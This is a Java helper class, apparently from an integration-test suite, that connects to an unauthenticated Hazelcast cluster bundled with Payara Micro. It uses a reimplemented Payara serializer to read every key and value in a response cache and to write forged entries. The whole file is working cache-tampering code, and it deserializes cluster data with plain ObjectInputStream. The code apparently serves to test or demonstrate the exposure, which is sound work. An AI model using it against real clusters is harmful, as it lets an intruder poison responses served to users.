package org.therapeia.it;

import com.hazelcast.cache.ICache;
import com.hazelcast.client.HazelcastClient;
import com.hazelcast.client.config.ClientConfig;
import com.hazelcast.config.GlobalSerializerConfig;
import com.hazelcast.core.HazelcastInstance;
import com.hazelcast.nio.ObjectDataInput;
import com.hazelcast.nio.ObjectDataOutput;
import com.hazelcast.nio.serialization.StreamSerializer;
import java.io.IOException;
import java.io.InputStream;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.OutputStream;
import java.util.HashSet;
import java.util.Iterator;
import java.util.Set;
import javax.cache.Cache;

/**
 * What anyone who reaches a cluster's Hazelcast port can do (Hazelcast open source has no member
 * authentication; the cluster name is all it asks): connect as a Hazelcast client (the same
 * Hazelcast 5.3.8 that Payara Micro 6.2025.10 bundles), read the response cache's keys and values
 * and write any value under any key, bypassing the service.
 *
 * <p>Payara registers a global serializer of its own (type id 1) for Java-serializable objects,
 * such as the cache's expiry policy factory in its configuration, which a client reads before it
 * can open the cache; {@link PayaraSerialization} reads and writes that format (an application
 * component id, then the object, each as Java serialization), as an intruder would.
 */
final class CacheForger implements AutoCloseable {

    private final HazelcastInstance client;
    private final ICache<String, String> cache;

    CacheForger(String clusterName, String memberAddress, String cacheName) {
        ClientConfig config = new ClientConfig();
        config.setClusterName(clusterName);
        config.getNetworkConfig().addAddress(memberAddress);
        config.getConnectionStrategyConfig().getConnectionRetryConfig().setClusterConnectTimeoutMillis(30_000);
        config.getSerializationConfig().setGlobalSerializerConfig(new GlobalSerializerConfig()
                .setImplementation(new PayaraSerialization()).setOverrideJavaSerialization(true));
        config.setProperty("hazelcast.client.statistics.enabled", "false");
        config.setProperty("hazelcast.logging.type", "jdk");
        client = HazelcastClient.newHazelcastClient(config);
        cache = client.getCacheManager().getCache(cacheName);
    }

    Set<String> keys() {
        Set<String> keys = new HashSet<>();
        for (Iterator<Cache.Entry<String, String>> it = cache.iterator(); it.hasNext(); ) {
            keys.add(it.next().getKey());
        }
        return keys;
    }

    String get(String key) {
        return cache.get(key);
    }

    void put(String key, String value) {
        cache.put(key, value);
    }

    @Override
    public void close() {
        client.shutdown();
    }

    /** Payara's serializer for Java-serializable objects (type id 1), as read off its bytecode. */
    static final class PayaraSerialization implements StreamSerializer<Object> {

        @Override
        public int getTypeId() {
            return 1;
        }

        @Override
        public void write(ObjectDataOutput out, Object object) throws IOException {
            writeJava(out, null); // no application component
            writeJava(out, object);
        }

        @Override
        public Object read(ObjectDataInput in) throws IOException {
            readJava(in); // the component id
            return readJava(in);
        }

        private static void writeJava(ObjectDataOutput out, Object object) throws IOException {
            ObjectOutputStream stream = new ObjectOutputStream((OutputStream) out);
            stream.writeObject(object);
            stream.flush();
        }

        private static Object readJava(ObjectDataInput in) throws IOException {
            try {
                return new ObjectInputStream((InputStream) in).readObject();
            } catch (ClassNotFoundException e) {
                throw new IOException(e);
            }
        }
    }
}
